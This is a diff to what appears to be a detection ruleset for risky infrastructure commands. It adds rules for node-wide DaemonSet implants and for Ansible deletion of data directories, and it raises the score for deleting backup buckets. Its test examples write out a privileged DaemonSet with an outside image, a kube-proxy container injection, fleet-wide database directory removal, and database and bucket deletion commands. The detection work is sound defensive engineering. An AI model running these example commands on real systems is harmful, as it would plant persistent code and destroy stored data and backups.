@@ -1,6 +1,6 @@
 import { envOf, PREP_PATTERNS, prepText, type Env, type PrepContext } from '../parse/infra-prep.js';
 import { safeguarded } from '../frames/safeguards.js';
-import { ageFiltered, citesPolicy, computeHijack, ephemeralEnvironment, recordExpiry, selfRollback } from '../parse/infra-effects.js';
+import { ageFiltered, citesPolicy, computeHijack, dataPathRemoved, ephemeralEnvironment, nodeWideImplant, recordExpiry, recoveryNamed, selfRollback } from '../parse/infra-effects.js';
 import { metaString } from '../normalize.js';
 import { PhraseSet } from '../parse/phrase-set.js';
 import type { Analyzer, Metadata, ThreatRule } from '../types.js';
@@ -193,6 +193,39 @@ const DISABLE_SETTINGS = new PhraseSet([
 ]);
 
 const rules: ThreatRule<InfraContext>[] = [
+  {
+    id: 'K28',
+    name: 'Workload planted on every node (DaemonSet with host access or an outside image)',
+    // what it does: code that comes back on every node, new ones included, until someone finds and removes it
+    primitive: 'PERSISTENCE',
+    score: 9,
+    keywords: ['daemonset'],
+    detect: (ctx) => nodeWideImplant(ctx.head) || null,
+    reason: (d) => `Keeps code running on every node: ${d}`,
+    examples: {
+      flag: ['apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: node-metrics, namespace: kube-system}\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n      - image: docker.io/xmr0x/agent:latest\n        securityContext: {privileged: true}',
+        'kubectl -n kube-system patch daemonset kube-proxy --type json -p \'[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"helper","image":"docker.io/x/h:latest"}}]\''],
+      pass: ['apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: fluent-bit, namespace: logging}\nspec:\n  template:\n    spec:\n      containers:\n      - image: registry.acme.io/fluent-bit:3.1.2',
+        'kubectl -n kube-system rollout restart daemonset kube-proxy', 'kubectl get daemonset -n kube-system'],
+    },
+  },
+  {
+    id: 'K29',
+    name: 'Configuration management removes a data directory',
+    primitive: 'DESTRUCTION',
+    score: 5,
+    keywords: ['absent'],
+    detect: (ctx) => {
+      const r = dataPathRemoved(ctx.head);
+      if (r === null || disposable(ctx)) return null;
+      return { detail: `${r.path} set to state=absent${r.fleet ? ' on every host' : ''}${envLabel(ctx.env)}`, score: r.fleet ? byEnv(ctx.env, 8, 6, 2) : byEnv(ctx.env, 7, 5, 0) };
+    },
+    reason: (d) => `Deletes stored data: ${d}`,
+    examples: {
+      flag: ['- name: reset fleet\n  hosts: all\n  become: yes\n  tasks:\n    - file: path=/var/lib/postgresql state=absent', 'ansible all -m file -a "path=/var/lib/mysql state=absent" --become'],
+      pass: ['- name: tidy\n  hosts: all\n  tasks:\n    - file: path=/tmp/build-cache state=absent', '- file: path=/var/lib/postgresql state=directory owner=postgres', '- file: path=/srv/app/releases/old state=absent\n  # keeps current'],
+    },
+  },
   {
     id: 'K01',
     name: 'Destroying a whole infrastructure stack',
@@ -488,12 +521,14 @@ const rules: ThreatRule<InfraContext>[] = [
     detect: (ctx, m) => {
       if (K13_S3RM.test(m![0]) && !ctx.head.includes('--recursive')) return null;
       if (disposable(ctx)) return null;
-      const score = byEnv(ctx.env, 9, 6, 0);
-      return { detail: `${m![0]}${envLabel(ctx.env)}`, score };
+      // backups, immutable or archived copies: the last way back from every other loss (not on a non-production target)
+      const recovery = ctx.env === 'nonprod' ? '' : recoveryNamed(ctx.head);
+      const score = Math.max(byEnv(ctx.env, 9, 6, 0), recovery !== '' ? 8 : 0);
+      return { detail: `${m![0]}${recovery !== '' ? ` (${recovery} data)` : ''}${envLabel(ctx.env)}`, score };
     },
     reason: (d) => `Deletes stateful infrastructure: ${d}`,
     examples: {
-      flag: ['aws rds delete-db-instance --db-instance-identifier orders-prod', 'aws s3 rb s3://acme-prod-uploads --force', { value: 'gcloud sql instances delete billing-db', metadata: { project: 'acme-production' } }, 'aws s3 rm s3://acme-data-lake/raw/ --recursive'],
+      flag: ['aws rds delete-db-instance --db-instance-identifier orders-prod', 'aws s3 rb s3://acme-prod-uploads --force', 'aws s3 rb s3://acme-backups-immutable --force', { value: 'gcloud sql instances delete billing-db', metadata: { project: 'acme-production' } }, 'aws s3 rm s3://acme-data-lake/raw/ --recursive'],
       pass: ['aws s3 rm s3://acme-dev-scratch/tmp/test.json', 'aws rds describe-db-instances', { value: 'aws ec2 terminate-instances --instance-ids i-0abc', metadata: { environment: 'dev' } }],
     },
   },
